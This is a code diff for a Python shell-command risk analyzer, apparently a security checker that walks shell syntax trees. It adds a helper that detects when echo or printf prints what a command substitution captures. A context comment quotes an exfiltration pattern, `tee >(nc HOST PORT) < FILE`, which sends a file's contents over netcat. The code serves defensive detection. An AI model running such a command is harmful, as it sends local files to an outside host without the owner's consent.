@@ -103,7 +103,7 @@ class WordWalker(Visitor[Frame, frozenset[Risk]]):
             label = "`...`" if part.backquoted else "$(...)"
         else:
             label = f"{part.direction}(...)"
-        inner = frame.enter(position, label)
+        inner = frame.enter(position, label, _prints_captured(part, frame, position, writer))
         if type(part) is ast.ProcessSubstitution and part.direction == ">":
             # What the enclosing command writes to the path is the body's standard input, as if
             # piped: `tee >(nc HOST PORT) < FILE` sends FILE (tee writes its input to each path).
@@ -294,3 +294,28 @@ class WordWalker(Visitor[Frame, frozenset[Risk]]):
 def _plain(part: ast.ParamExpansion) -> ast.ParamExpansion:
     """`${x@P}` without its operator: the value that is expanded as a prompt."""
     return part._replace(operator="", argument=())
+
+
+# The builtins that print their arguments: a substitution among them shows what it captured.
+_PRINTERS = frozenset({"echo", "printf"})
+
+
+def _prints_captured(
+    part: ast.CommandSubstitution | ast.ProcessSubstitution,
+    frame: Frame,
+    position: Position,
+    writer: ast.SimpleCommand | None,
+) -> bool:
+    """Whether `writer` prints what the substitution `part` captures where it is shown: `echo`
+    or `printf` given it as an argument, printing to the screen (not piped on, not redirected,
+    not itself captured by a substitution that does not show it)."""
+    if type(part) is not ast.CommandSubstitution or position is not Position.VALUE or writer is None:
+        return False
+    name = writer.words[0].parts if writer.words else ()
+    if len(name) != 1 or type(name[0]) is not ast.Literal or name[0].text not in _PRINTERS:
+        return False
+    if frame.piped_on or any(
+        redirect.operator in OUTPUT_REDIRECTS and redirect.fd in (None, "1") for redirect in writer.redirects
+    ):
+        return False
+    return frame.location.position is not Position.VALUE or frame.location.shown
